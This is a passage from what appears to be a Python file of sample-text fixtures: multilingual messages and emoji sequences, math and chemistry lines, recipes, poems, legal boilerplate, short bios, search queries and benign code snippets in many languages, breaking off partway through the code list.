    ("zh", "\u4eca\u5929\u5929\u6c14\u5f88\u597d\uff0c\u6211\u4eec\u53bb\u516c\u56ed\u6563\u6b65\u4e86\u3002\u665a\u4e0a\u4e00\u8d77\u5403\u706b\u9505\uff0c\u5927\u5bb6\u90fd\u5f88\u5f00\u5fc3\uff01"),
    ("zh", "\u8bf7\u95ee\u8fd9\u4e2a\u4ea7\u54c1\u652f\u6301\u53d1\u8d27\u5230\u9999\u6e2f\u5417\uff1f\u5927\u6982\u9700\u8981\u51e0\u5929\uff1f\u8c22\u8c22\uff01"),
    ("zh", "\u300a\u4e09\u4f53\u300b\u7b2c\u4e8c\u90e8\u6bd4\u7b2c\u4e00\u90e8\u66f4\u597d\u770b\u2014\u2014\u5c24\u5176\u662f\u201c\u9762\u58c1\u8005\u201d\u90a3\u4e00\u6bb5\u3002\u63a8\u8350\u7ed9\u6240\u6709\u79d1\u5e7b\u8ff7\u3002"),
    ("zh-TW", "\u9019\u5bb6\u5496\u5561\u5ef3\u7684\u62ff\u9435\u975e\u5e38\u9806\u53e3\uff0c\u751c\u9ede\u4e5f\u4e0d\u932f\uff0c\u4f46\u5047\u65e5\u4eba\u592a\u591a\u4e86\uff0c\u5efa\u8b70\u5e73\u65e5\u4f86\u3002"),
    ("ja", "\u304a\u4e16\u8a71\u306b\u306a\u3063\u3066\u304a\u308a\u307e\u3059\u3002\u6765\u9031\u306e\u6253\u3061\u5408\u308f\u305b\u3067\u3059\u304c\u3001\uff11\uff10\u6708\uff18\u65e5\uff08\u6c34\uff09\uff11\uff14\uff1a\uff10\uff10\u304b\u3089\u3067\u3044\u304b\u304c\u3067\u3057\u3087\u3046\u304b\u3002\u3088\u308d\u3057\u304f\u304a\u9858\u3044\u3044\u305f\u3057\u307e\u3059\u3002"),
    ("ja", "\u6ce8\u6587\u756a\u53f7\uff1a\uff21\uff22\uff23\uff11\uff12\uff13\u3001\u5546\u54c1\u304c\u307e\u3060\u5c4a\u3044\u3066\u3044\u307e\u305b\u3093\u3002\u78ba\u8a8d\u3057\u3066\u3044\u305f\u3060\u3051\u307e\u3059\u304b\uff1f"),
    ("ja", "\u685c\u304c\u6e80\u958b\u3067\u3057\u305f\uff01\u300c\u4eca\u5e74\u3082\u304d\u308c\u3044\u3060\u306d\u300d\u3068\u6bcd\u304c\u8a00\u3063\u3066\u3044\u307e\u3057\u305f\u3002\u3000\u6765\u5e74\u3082\u307e\u305f\u6765\u305f\u3044\u3067\u3059\u2026\u2026"),
    ("ja", "\u30ec\u30d3\u30e5\u30fc\uff1a\u661f\uff14\u3064\u2605\u2605\u2605\u2605\u2606\u3002\u97f3\u8cea\u306f\u826f\u3044\u3067\u3059\u304c\u3001\u30d0\u30c3\u30c6\u30ea\u30fc\u304c\uff16\u6642\u9593\u3057\u304b\u6301\u3061\u307e\u305b\u3093\uff08\u516c\u79f0\uff11\uff10\u6642\u9593\uff09\u3002"),
    ("ko", "\uc548\ub155\ud558\uc138\uc694! \uc8fc\ubb38\ud55c \uc0c1\ud488\uc774 \uc544\uc9c1 \ub3c4\ucc29\ud558\uc9c0 \uc54a\uc558\uc2b5\ub2c8\ub2e4. \ubc30\uc1a1 \uc870\ud68c \ubd80\ud0c1\ub4dc\ub824\uc694 \U0001F64F"),
    ("ko", "\uc774 \uce74\ud398 \ubd84\uc704\uae30 \uc9f1\uc774\uc5d0\uc694 \u314b\u314b\u314b \ub2e4\uc74c\uc5d0 \ub610 \uc62c\uac8c\uc694~"),
    ("ko", "\ud68c\uc758\ub294 \ub0b4\uc77c \uc624\ud6c4 3\uc2dc\uc5d0 3\uce35 \ud68c\uc758\uc2e4\uc5d0\uc11c \uc9c4\ud589\ud569\ub2c8\ub2e4. \uc790\ub8cc\ub294 \ubbf8\ub9ac \uacf5\uc720\ud574 \uc8fc\uc138\uc694."),
    ("ar", "\u0645\u0631\u062d\u0628\u0627\u064b\u060c \u0623\u0648\u062f \u0627\u0644\u0627\u0633\u062a\u0641\u0633\u0627\u0631 \u0639\u0646 \u0645\u0648\u0639\u062f \u062a\u0633\u0644\u064a\u0645 \u0627\u0644\u0637\u0644\u0628 \u0631\u0642\u0645 \u200e#4821\u200f. \u0634\u0643\u0631\u0627\u064b \u062c\u0632\u064a\u0644\u0627\u064b!"),
    ("ar", "\u0643\u0627\u0646\u062a \u0627\u0644\u0631\u062d\u0644\u0629 \u0631\u0627\u0626\u0639\u0629\u060c \u0648\u0627\u0644\u0641\u0646\u062f\u0642 \u0642\u0631\u064a\u0628 \u0645\u0646 \u0627\u0644\u0628\u062d\u0631. \u0623\u0646\u0635\u062d \u0628\u0647 \u0628\u0634\u062f\u0629 \U0001F30A"),
    ("fa", "\u0633\u0644\u0627\u0645! \u0645\u0645\u0646\u0648\u0646 \u0627\u0632 \u0631\u0627\u0647\u0646\u0645\u0627\u06cc\u06cc\u200c\u062a\u0648\u0646. \u0645\u0634\u06a9\u0644 \u0645\u0646 \u062d\u0644 \u0634\u062f \u0648 \u062d\u0627\u0644\u0627 \u0647\u0645\u0647 \u0686\u06cc\u0632 \u062f\u0631\u0633\u062a \u06a9\u0627\u0631 \u0645\u06cc\u200c\u06a9\u0646\u0647."),
    ("he", "\u05e9\u05dc\u05d5\u05dd, \u05d4\u05d4\u05d6\u05de\u05e0\u05d4 \u05e9\u05dc\u05d9 (\u200e#A-1193\u200f) \u05e2\u05d3\u05d9\u05d9\u05df \u05dc\u05d0 \u05d4\u05d2\u05d9\u05e2\u05d4. \u05d0\u05e4\u05e9\u05e8 \u05dc\u05d1\u05d3\u05d5\u05e7? \u05ea\u05d5\u05d3\u05d4 \u05e8\u05d1\u05d4!"),
    ("he", "\u05d4\u05e1\u05e4\u05e8 \u05d4\u05d6\u05d4 \u05e4\u05e9\u05d5\u05d8 \u05de\u05d3\u05d4\u05d9\u05dd. \u05e7\u05e8\u05d0\u05ea\u05d9 \u05d0\u05d5\u05ea\u05d5 \u05d1\u05e9\u05d1\u05d5\u05e2 \u05d0\u05d7\u05d3 \u200f\u2014\u200f \u05de\u05de\u05dc\u05d9\u05e6\u05d4!"),
    ("ru", "\u0421\u043f\u0430\u0441\u0438\u0431\u043e \u0437\u0430 \u0431\u044b\u0441\u0442\u0440\u0443\u044e \u0434\u043e\u0441\u0442\u0430\u0432\u043a\u0443! \u0422\u043e\u0432\u0430\u0440 \u043f\u043e\u043b\u043d\u043e\u0441\u0442\u044c\u044e \u0441\u043e\u043e\u0442\u0432\u0435\u0442\u0441\u0442\u0432\u0443\u0435\u0442 \u043e\u043f\u0438\u0441\u0430\u043d\u0438\u044e, \u0443\u043f\u0430\u043a\u043e\u0432\u043a\u0430 \u2014 \u043e\u0442\u043b\u0438\u0447\u043d\u0430\u044f."),
    ("ru", "\u00ab\u0412\u043e\u0439\u043d\u0430 \u0438 \u043c\u0438\u0440\u00bb \u2014 \u043d\u0435 \u0442\u0430\u043a\u0430\u044f \u0443\u0436 \u0441\u0442\u0440\u0430\u0448\u043d\u0430\u044f \u043a\u043d\u0438\u0433\u0430, \u0435\u0441\u043b\u0438 \u0447\u0438\u0442\u0430\u0442\u044c \u043f\u043e 20 \u0441\u0442\u0440\u0430\u043d\u0438\u0446 \u0432 \u0434\u0435\u043d\u044c."),
    ("uk", "\u0414\u043e\u0431\u0440\u043e\u0433\u043e \u0434\u043d\u044f! \u0427\u0438 \u043c\u043e\u0436\u043d\u0430 \u0437\u0430\u043c\u043e\u0432\u0438\u0442\u0438 \u0434\u043e\u0441\u0442\u0430\u0432\u043a\u0443 \u0434\u043e \u041b\u044c\u0432\u043e\u0432\u0430 \u043d\u0430 \u0441\u0443\u0431\u043e\u0442\u0443? \u0414\u044f\u043a\u0443\u044e \u0437\u0430 \u0432\u0456\u0434\u043f\u043e\u0432\u0456\u0434\u044c."),
    ("el", "\u039a\u03b1\u03bb\u03b7\u03bc\u03ad\u03c1\u03b1 \u03c3\u03b1\u03c2! \u0398\u03b1 \u03ae\u03b8\u03b5\u03bb\u03b1 \u03bd\u03b1 \u03ba\u03bb\u03b5\u03af\u03c3\u03c9 \u03c4\u03c1\u03b1\u03c0\u03ad\u03b6\u03b9 \u03b3\u03b9\u03b1 4 \u03ac\u03c4\u03bf\u03bc\u03b1 \u03c4\u03bf \u03a3\u03ac\u03b2\u03b2\u03b1\u03c4\u03bf \u03c3\u03c4\u03b9\u03c2 9 \u03c4\u03bf \u03b2\u03c1\u03ac\u03b4\u03c5\u00b7 \u03b5\u03c5\u03c7\u03b1\u03c1\u03b9\u03c3\u03c4\u03ce!"),
    ("th", "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e23\u0e31\u0e1a \u0e2d\u0e22\u0e32\u0e01\u0e2a\u0e2d\u0e1a\u0e16\u0e32\u0e21\u0e27\u0e48\u0e32\u0e2a\u0e34\u0e19\u0e04\u0e49\u0e32\u0e19\u0e35\u0e49\u0e21\u0e35\u0e2a\u0e35\u0e2d\u0e37\u0e48\u0e19\u0e44\u0e2b\u0e21\u0e04\u0e23\u0e31\u0e1a \u0e02\u0e2d\u0e1a\u0e04\u0e38\u0e13\u0e04\u0e23\u0e31\u0e1a"),
    ("th", "\u0e2d\u0e32\u0e2b\u0e32\u0e23\u0e2d\u0e23\u0e48\u0e2d\u0e22\u0e21\u0e32\u0e01 \u0e15\u0e49\u0e21\u0e22\u0e33\u0e01\u0e38\u0e49\u0e07\u0e23\u0e2a\u0e08\u0e31\u0e14\u0e08\u0e49\u0e32\u0e19 \u0e1a\u0e23\u0e34\u0e01\u0e32\u0e23\u0e14\u0e35 \u0e08\u0e30\u0e21\u0e32\u0e2d\u0e35\u0e01\u0e41\u0e19\u0e48\u0e19\u0e2d\u0e19 555"),
    ("hi", "\u0928\u092e\u0938\u094d\u0924\u0947! \u092e\u0948\u0902\u0928\u0947 \u092a\u093f\u091b\u0932\u0947 \u0939\u092b\u093c\u094d\u0924\u0947 \u0911\u0930\u094d\u0921\u0930 \u0915\u093f\u092f\u093e \u0925\u093e, \u0932\u0947\u0915\u093f\u0928 \u0905\u092d\u0940 \u0924\u0915 \u0921\u093f\u0932\u0940\u0935\u0930\u0940 \u0928\u0939\u0940\u0902 \u0939\u0941\u0908\u0964 \u0915\u0943\u092a\u092f\u093e \u092e\u0926\u0926 \u0915\u0930\u0947\u0902\u0964"),
    ("hi", "\u092f\u0939 \u0915\u093f\u0924\u093e\u092c \u092c\u0939\u0941\u0924 \u0905\u091a\u094d\u091b\u0940 \u0939\u0948 \u2014 \u0939\u0930 \u0905\u0927\u094d\u092f\u093e\u092f \u092e\u0947\u0902 \u0915\u0941\u091b \u0928\u092f\u093e \u0938\u0940\u0916\u0928\u0947 \u0915\u094b \u092e\u093f\u0932\u0924\u093e \u0939\u0948\u0964"),
    ("tr", "Merhaba, sipari\u015fim h\u00e2l\u00e2 gelmedi. Kargo takip numaras\u0131 \u00e7al\u0131\u015fm\u0131yor; l\u00fctfen kontrol eder misiniz? Te\u015fekk\u00fcrler, I\u015f\u0131l"),
    ("tr", "\u0130stanbul'da \u00fc\u00e7 g\u00fcn ge\u00e7irdik: Ayasofya, Kapal\u0131\u00e7ar\u015f\u0131 ve bol bol \u00e7ay. Ba\u011fl\u0131 kald\u0131\u011f\u0131m\u0131z otel \u00e7ok temizdi."),
    ("vi", "Xin ch\u00e0o! T\u00f4i \u0111\u00e3 \u0111\u1eb7t h\u00e0ng t\u1eeb th\u1ee9 Hai nh\u01b0ng v\u1eabn ch\u01b0a nh\u1eadn \u0111\u01b0\u1ee3c. C\u1ea3m \u01a1n b\u1ea1n nhi\u1ec1u!"),
    ("vi-nfd", "Pho\u031b\u0309 bo\u0300 o\u031b\u0309 \u0111a\u0302y ngon tuye\u0323\u0302t vo\u031b\u0300i, nu\u031bo\u031b\u0301c du\u0300ng \u0111a\u0323\u0302m \u0111a\u0300, gia\u0301 ca\u0309 ha\u031bp ly\u0301."),
    ("de", "Gr\u00fc\u00dfe aus M\u00fcnchen! Die Lieferung kam p\u00fcnktlich, aber die Gr\u00f6\u00dfe f\u00e4llt etwas kleiner aus. \u00dcberlege, die n\u00e4chstgr\u00f6\u00dfere zu bestellen \u2013 geht ein Umtausch?"),
    ("fr", "C'est l'\u00e9t\u00e9 ! On s'est retrouv\u00e9s \u00e0 la plage avec Ana\u00efs et Ren\u00e9e, et on a mang\u00e9 des cr\u00eapes \u00ab maison \u00bb. Trop bien \U0001F60A"),
    ("es", "\u00a1Hola! \u00bfAlguien sabe si la biblioteca abre el s\u00e1bado? Necesito devolver unos libros y no quiero pagar la multa \U0001F605"),
    ("pl", "Zam\u00f3wienie dotar\u0142o szybko, ale jedna \u017car\u00f3wka by\u0142a st\u0142uczona. Prosz\u0119 o wymian\u0119 \u2014 zdj\u0119cie w za\u0142\u0105czniku."),
    ("pt", "Adorei o restaurante! A moqueca estava \u00f3tima e o atendimento foi super simp\u00e1tico. Voltarei com certeza \u2764\uFE0F"),
    ("emoji", "Family trip \U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 to the lake \U0001F3DE\uFE0F, my sister \U0001F469\U0001F3FD\u200D\U0001F52C came too, and the dog \U0001F415\u200D\U0001F9BA was the star of the day \U0001F31F"),
    ("emoji", "Congrats \U0001F44F\U0001F3FB\U0001F44F\U0001F3FC\U0001F44F\U0001F3FD\U0001F44F\U0001F3FE\U0001F44F\U0001F3FF on the launch! \U0001F680\U0001F3F3\uFE0F\u200D\U0001F308 Proud of you all \U0001F9D1\U0001F3FE\u200D\U0001F4BB\U0001F469\U0001F3FB\u200D\U0001F3A8"),
    ("emoji", "Weekend plans: \U0001F3D5\uFE0F + \U0001F525 + \U0001F32D = \U0001F60D. Flags for the match: \U0001F1EF\U0001F1F5 vs \U0001F1E7\U0001F1F7 \u26BD"),
    ("ka", "\u10d2\u10d0\u10db\u10d0\u10e0\u10ef\u10dd\u10d1\u10d0! \u10e8\u10d4\u10d9\u10d5\u10d4\u10d7\u10d0 \u10db\u10d8\u10d5\u10d8\u10e6\u10d4, \u10d3\u10d8\u10d3\u10d8 \u10db\u10d0\u10d3\u10da\u10dd\u10d1\u10d0."),
    ("am", "\u1230\u120b\u121d! \u12a5\u1295\u12f4\u1275 \u1290\u1205? \u1275\u12d5\u12db\u12d8\u12ec \u1308\u1293 \u12a0\u120d\u12f0\u1228\u1230\u121d\u1362"),
    ("bn", "\u09a7\u09a8\u09cd\u09af\u09ac\u09be\u09a6! \u0986\u09aa\u09a8\u09be\u09b0 \u09b8\u09be\u09b9\u09be\u09af\u09cd\u09af\u09c7\u09b0 \u099c\u09a8\u09cd\u09af \u0995\u09c3\u09a4\u099c\u09cd\u099e\u0964"),
    ("ta", "\u0bb5\u0ba3\u0b95\u0bcd\u0b95\u0bae\u0bcd! \u0b87\u0ba8\u0bcd\u0ba4 \u0baa\u0bc1\u0ba4\u0bcd\u0ba4\u0b95\u0bae\u0bcd \u0bae\u0bbf\u0b95\u0bb5\u0bc1\u0bae\u0bcd \u0b85\u0bb0\u0bc1\u0bae\u0bc8\u0baf\u0bbe\u0ba9\u0ba4\u0bc1."),
    ("mixed", "Meeting notes \u2014 \u4f1a\u8bae\u8bb0\u5f55 \u2014 \u4f1a\u8b70\u30e1\u30e2: budget approved (\u2714), launch moved to 2024\u201111\u201104, owner: \u5c71\u7530\u3055\u3093 / \uae40\ubbfc\uc900 / \u0410\u043d\u043d\u0430."),
]

MATH = [
    "The quadratic formula is $x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$, valid whenever $a \\neq 0$.",
    "By induction, $$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$ holds for all $n \\geq 1$.",
    "Euler's identity: $e^{i\\pi} + 1 = 0$. Still the most beautiful line in mathematics, imho.",
    "For the Gaussian integral we get $$\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}.$$",
    "If $x < 5 && y > 3$ then the point lies in the shaded region; otherwise it's outside (see fig. 2).",
    "Let $A \\in \\mathbb{R}^{m \\times n}$ and suppose $\\operatorname{rank}(A) = r < \\min(m, n)$. Then $\\ker A$ is non-trivial.",
    "The limit $\\lim_{x \\to 0} \\frac{\\sin x}{x} = 1$ follows from the squeeze theorem.",
    "Bayes: $P(A \\mid B) = \\frac{P(B \\mid A)\\,P(A)}{P(B)}$. With a 1% prior and a 95% sensitive test, a positive result still means only ~16% probability.",
    "\\begin{align} f(x) &= x^2 + 2x + 1 \\\\ &= (x+1)^2 \\end{align}",
    "Matrix form: $$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}^{-1} = \\frac{1}{ad-bc}\\begin{pmatrix} d & -b \\\\ -c & a \\end{pmatrix}$$",
    "Photosynthesis: 6 CO\u2082 + 6 H\u2082O \u2192 C\u2086H\u2081\u2082O\u2086 + 6 O\u2082 (needs light, obviously).",
    "Balanced equation for burning methane: CH4 + 2 O2 -> CO2 + 2 H2O, \u0394H \u2248 -890 kJ/mol.",
    "In mhchem: $\\ce{2H2 + O2 -> 2H2O}$ and $\\ce{Fe^{3+} + 3OH- -> Fe(OH)3 v}$.",
    "Gravitational acceleration is 9.81 m/s\u00b2, so after 3 s of free fall v = 29.4 m/s (ignoring drag).",
    "The sample had a density of 1.05 g/cm\u00b3 at 20 \u00b0C and a pH of 7.4 \u00b1 0.1.",
    "Power = V \u00d7 I = 230 V \u00d7 10 A = 2.3 kW; over 2 h that's 4.6 kWh, roughly \u20ac1.38 at current prices.",
    "For 0 < p < 1 the series $\\sum 1/n^p$ diverges, and for p > 1 it converges. At p = 1 it's the harmonic series (diverges).",
    "Big-O reminder: merge sort is O(n log n) in all cases, quicksort is O(n log n) on average but O(n\u00b2) in the worst case.",
    "If a > b and b > c then a > c; transitivity. And a <= b <= a implies a == b for a total order.",
    "Shannon entropy $H(X) = -\\sum_{x} p(x) \\log_2 p(x)$; a fair coin gives exactly 1 bit.",
    "Stokes' theorem: $\\oint_{\\partial \\Sigma} \\mathbf{F} \\cdot d\\mathbf{r} = \\iint_{\\Sigma} (\\nabla \\times \\mathbf{F}) \\cdot d\\mathbf{S}$.",
    "The drug is dosed at 5 mg/kg/day, split in 2 doses; for a 20 kg child that's 2 \u00d7 50 mg.",
    "Ideal gas: pV = nRT with R = 8.314 J/(mol\u00b7K). At STP one mole occupies about 22.4 L.",
    "Binomial coefficient: $\\binom{n}{k} = \\frac{n!}{k!(n-k)!}$, e.g. $\\binom{5}{2} = 10$.",
    "Inequality chain: 0 <= |sin x| <= 1 for all real x, and |x| - |y| <= |x - y|.",
    "$$\\mathcal{L} = -\\frac{1}{4} F_{\\mu\\nu} F^{\\mu\\nu} + \\bar{\\psi}(i\\gamma^\\mu D_\\mu - m)\\psi$$ \u2014 QED in one line.",
    "Speed of light c \u2248 3.00 \u00d7 10\u2078 m/s; 1 light-year \u2248 9.46 \u00d7 10\u00b9\u2075 m.",
    "Piecewise: $f(x) = \\begin{cases} x^2 & \\text{if } x \\ge 0 \\\\ -x & \\text{if } x < 0 \\end{cases}$",
]

RECIPES = [
    ("Banana bread", "3 ripe bananas\n1/3 cup melted butter\n3/4 cup sugar\n1 egg, beaten\n1 tsp vanilla\n1 tsp baking soda\npinch of salt\n1 1/2 cups all-purpose flour",
     "Preheat oven to 350\u00b0F (175\u00b0C). Mash the bananas, stir in butter. Mix in soda & salt, then sugar, egg and vanilla. Fold in flour. Pour into a buttered 4x8\" loaf pan; bake 55-65 min, until a skewer comes out clean. Cool 10 min before slicing."),
    ("Grandma's pancakes", "1 1/2 cups flour\n3 1/2 tsp baking powder\n1 tbsp sugar\n1/4 tsp salt\n1 1/4 cups milk\n1 egg\n3 tbsp butter, melted",
     "Whisk dry ingredients. Make a well, pour in milk, egg & butter; mix until just combined (lumps are OK!). Ladle ~1/4 cup per pancake onto a hot griddle; flip when bubbles form. Makes 8-10."),
    ("Lentil soup", "200 g red lentils\n1 onion, diced\n2 carrots\n1 tsp cumin\n1/2 tsp turmeric\n1 L vegetable stock\njuice of 1/2 lemon",
     "Saut\u00e9 onion & carrots 5 min, add spices for 1 min, then lentils + stock. Simmer 20-25 min. Blend half, season to taste, finish with lemon. Serves 4; keeps 3 days in the fridge."),
    ("Shakshuka", "2 tbsp olive oil\n1 onion\n1 red pepper\n3 garlic cloves\n1 tsp paprika\n1 tsp cumin\n1 can (400 g) tomatoes\n4-6 eggs\nfeta & parsley to serve",
     "Soften onion & pepper, add garlic and spices, then tomatoes; simmer 10 min. Make wells, crack in eggs, cover and cook 5-8 min until whites are set. Top with feta/parsley. Eat with bread!"),
    ("Chocolate chip cookies", "2 1/4 cups flour\n1 tsp baking soda\n1 cup (2 sticks) butter, softened\n3/4 cup sugar + 3/4 cup brown sugar\n2 eggs\n2 cups chocolate chips",
     "Cream butter & sugars, beat in eggs. Add flour/soda, stir in chips. Drop rounded tablespoons onto ungreased sheets; bake at 375\u00b0F for 9-11 min. Cool 2 min on the sheet. ~5 dozen."),
]

POEMS = [
    "The fog comes\non little cat feet.\n\nIt sits looking\nover harbor and city\non silent haunches\nand then moves on.",
    "Whose woods these are I think I know.\nHis house is in the village though;\nHe will not see me stopping here\nTo watch his woods fill up with snow.",
    "\u53e4\u6c60\u3084\n\u86d9\u98db\u3073\u8fbc\u3080\n\u6c34\u306e\u97f3\n\n\u2014 \u82ad\u8549",
    "\u5e8a\u524d\u660e\u6708\u5149\uff0c\n\u7591\u662f\u5730\u4e0a\u971c\u3002\n\u4e3e\u5934\u671b\u660e\u6708\uff0c\n\u4f4e\u5934\u601d\u6545\u4e61\u3002",
    "Hope is the thing with feathers -\nThat perches in the soul -\nAnd sings the tune without the words -\nAnd never stops - at all -",
    "I wandered lonely as a cloud\nThat floats on high o'er vales and hills,\nWhen all at once I saw a crowd,\nA host, of golden daffodils;",
    "\u042f \u043f\u043e\u043c\u043d\u044e \u0447\u0443\u0434\u043d\u043e\u0435 \u043c\u0433\u043d\u043e\u0432\u0435\u043d\u044c\u0435:\n\u041f\u0435\u0440\u0435\u0434\u043e \u043c\u043d\u043e\u0439 \u044f\u0432\u0438\u043b\u0430\u0441\u044c \u0442\u044b,\n\u041a\u0430\u043a \u043c\u0438\u043c\u043e\u043b\u0435\u0442\u043d\u043e\u0435 \u0432\u0438\u0434\u0435\u043d\u044c\u0435,\n\u041a\u0430\u043a \u0433\u0435\u043d\u0438\u0439 \u0447\u0438\u0441\u0442\u043e\u0439 \u043a\u0440\u0430\u0441\u043e\u0442\u044b.",
    "my coffee's gone cold\nthe cursor blinks, patient, still -\none more line, then sleep",
]

LEGAL = [
    "1. Definitions. \"Agreement\" means these Terms together with any Order Form. \"Customer Data\" means data submitted by or on behalf of Customer to the Service.\n2. Term. This Agreement commences on the Effective Date and continues for twelve (12) months, renewing automatically unless either party gives thirty (30) days' written notice.",
    "THE SOFTWARE IS PROVIDED \"AS IS\", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT.",
    "Section 4(b)(ii) shall not apply where the Supplier's liability arises from (a) gross negligence, (b) wilful misconduct, and/or (c) breach of Clause 9 (Confidentiality).",
    "Privacy notice: we process your name, e-mail address and order history under Art. 6(1)(b) GDPR to fulfil your order. You may object at any time by writing to privacy@mapleandoak.com.",
    "Tenant shall pay rent of $1,850.00 per month, due on the 1st; a late fee of 5% applies after the 5th. Security deposit: one month's rent, refundable within 21 days of move-out less lawful deductions.",
]

BIOS = [
    "Designer & illustrator based in Porto \U0001F1F5\U0001F1F9. I draw birds, buildings and the occasional cat. Previously @ Studio Norte. She/her.",
    "Backend engineer. Rust, Postgres, and too many side projects. Opinions are my own; typos are my keyboard's.",
    "Mum of 2, runner, amateur baker. Trying to read 50 books this year (currently at 17...).",
    "PhD candidate in marine biology @ University of Bergen. Studying how kelp forests respond to warming seas \U0001F30A\U0001F33F",
    "I teach high-school physics and build weird synthesizers on weekends. Ask me about op-amps!",
    "\u6771\u4eac\u5728\u4f4f\u306e\u30d5\u30ea\u30fc\u30e9\u30f3\u30b9\u7ffb\u8a33\u8005\u3067\u3059\u3002\u82f1\u8a9e\u21c4\u65e5\u672c\u8a9e\u3001\u6280\u8853\u6587\u66f8\u304c\u5f97\u610f\u3002\u732b\u597d\u304d\u3002",
    "Product manager. Previously: fintech, healthtech, a failed startup and a very successful sourdough starter.",
    "Photographer | Traveller | Coffee snob. Canon R6 + 35mm f/1.8. Available for weddings in 2025.",
    "Open-source maintainer (docs tooling). If I didn't reply to your issue, it's not you - it's my inbox.",
    "Retired carpenter. 40 years of building things; now building birdhouses and the odd chair for the grandkids.",
]

SEARCHES = [
    "cheap flights lisbon october", "how to fix leaking tap", "best hiking boots for wide feet", "python list comprehension vs map",
    "\u6771\u4eac \u30e9\u30fc\u30e1\u30f3 \u304a\u3059\u3059\u3081", "\u5317\u4eac \u5929\u6c14 \u4e0b\u5468", "\uc11c\uc6b8 \ub9db\uc9d1", "\u0645\u0637\u0627\u0639\u0645 \u0642\u0631\u064a\u0628\u0629", "\u043a\u0443\u043f\u0438\u0442\u044c \u0432\u0435\u043b\u043e\u0441\u0438\u043f\u0435\u0434",
    "caf\u00e9 pr\u00e8s de moi", "M\u00fcnchen Stra\u00dfenbahn Fahrplan", "\"machine learning\" course free", "c++ vs rust performance",
    "10% of 250", "1/2 cup in grams", "size 8 1/2 running shoes", "rock & roll hall of fame tickets", "what's the weather like in Z\u00fcrich",
    "AT&T store hours", "O'Reilly books on kubernetes", "jeans 32x34", "apples -pie", "\u00bfc\u00f3mo est\u00e1s?",
    "\u0e23\u0e49\u0e32\u0e19\u0e01\u0e32\u0e41\u0e1f \u0e40\u0e0a\u0e35\u0e22\u0e07\u0e43\u0e2b\u0e21\u0e48", "T\u00fcrkiye tatil \u0131\u015f\u0131k", "b\u00e1nh m\u00ec h\u00e0 n\u1ed9i",
]

CODE_SNIPPETS = [
    ("python", "def chunked(items, size):\n    \"\"\"Yield successive chunks of `size` from `items`.\"\"\"\n    for i in range(0, len(items), size):\n        yield items[i:i + size]\n\n\nfor batch in chunked(list(range(10)), 3):\n    print(batch)"),
    ("javascript", "export function debounce(fn, wait = 250) {\n  let timer;\n  return (...args) => {\n    clearTimeout(timer);\n    timer = setTimeout(() => fn(...args), wait);\n  };\n}\n\nwindow.addEventListener('resize', debounce(() => layout.update()));"),
    ("typescript", "interface User {\n  id: number;\n  name: string;\n  email?: string;\n}\n\nconst byId = (users: User[]): Map<number, User> =>\n  new Map(users.map((u) => [u.id, u]));"),
    ("rust", "use std::collections::HashMap;\n\nfn word_count(text: &str) -> HashMap<&str, usize> {\n    let mut counts = HashMap::new();\n    for w in text.split_whitespace() {\n        *counts.entry(w).or_insert(0) += 1;\n    }\n    counts\n}"),
    ("go", "func (s *Server) handleHealth(w http.ResponseWriter, r *http.Request) {\n\tw.Header().Set(\"Content-Type\", \"application/json\")\n\tif err := json.NewEncoder(w).Encode(map[string]string{\"status\": \"ok\"}); err != nil {\n\t\tlog.Printf(\"encode: %v\", err)\n\t}\n}"),
    ("java", "public record Point(int x, int y) {\n    public double distanceTo(Point other) {\n        int dx = x - other.x();\n        int dy = y - other.y();\n        return Math.sqrt(dx * dx + dy * dy);\n    }\n}"),
    ("c", "#include <stdio.h>\n\nint main(void) {\n    for (int i = 1; i <= 15; i++) {\n        if (i % 15 == 0) puts(\"FizzBuzz\");\n        else if (i % 3 == 0) puts(\"Fizz\");\n        else if (i % 5 == 0) puts(\"Buzz\");\n        else printf(\"%d\\n\", i);\n    }\n    return 0;\n}"),
    ("cpp", "template <typename T>\nT clamp(const T& v, const T& lo, const T& hi) {\n    return v < lo ? lo : (hi < v ? hi : v);\n}\n\nstd::vector<int> v{3, 1, 4, 1, 5};\nstd::sort(v.begin(), v.end());"),
    ("ruby", "class Invoice < ApplicationRecord\n  belongs_to :customer\n  has_many :line_items, dependent: :destroy\n\n  def total\n    line_items.sum { |li| li.quantity * li.unit_price }\n  end\nend"),
    ("sql", "-- monthly active users\nSELECT date_trunc('month', created_at) AS month,\n       count(DISTINCT user_id) AS mau\nFROM events\nWHERE created_at >= now() - interval '12 months'\nGROUP BY 1\nORDER BY 1;"),
    ("yaml", "name: CI\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test --all-features"),
    ("json", "{\n  \"name\": \"my-app\",\n  \"version\": \"1.4.2\",\n  \"scripts\": {\n    \"dev\": \"vite\",\n    \"build\": \"vite build\",\n    \"test\": \"vitest run\"\n  }\n}"),
    ("bash", "# build and run locally\ngit clone https://github.com/acme/widgets.git\ncd widgets\nnpm ci\nnpm run build\nnpm start -- --port 8080"),
    ("css", ".card {\n  display: grid;\n  grid-template-columns: 80px 1fr;\n  gap: 0.75rem;\n  border-radius: 8px;\n  box-shadow: 0 1px 3px rgba(0, 0, 0, 0.12);\n}\n\n@media (max-width: 600px) {\n  .card { grid-template-columns: 1fr; }\n}"),
    ("kotlin", "data class Todo(val id: Long, val title: String, val done: Boolean = false)\n\nfun List<Todo>.pending() = filter { !it.done }\n\nval todos = listOf(Todo(1, \"Write docs\"), Todo(2, \"Ship it\", done = true))\nprintln(todos.pending())"),
    ("swift", "struct ContentView: View {\n    @State private var count = 0\n\n    var body: some View {\n        Button(\"Tapped \\(count) times\") {\n            count += 1\n        }\n        .padding()\n    }\n}"),
    ("haskell", "quicksort :: Ord a => [a] -> [a]\nquicksort [] = []\nquicksort (p:xs) = quicksort smaller ++ [p] ++ quicksort larger\n  where\n    smaller = [x | x <- xs, x < p]\n    larger  = [x | x <- xs, x >= p]"),
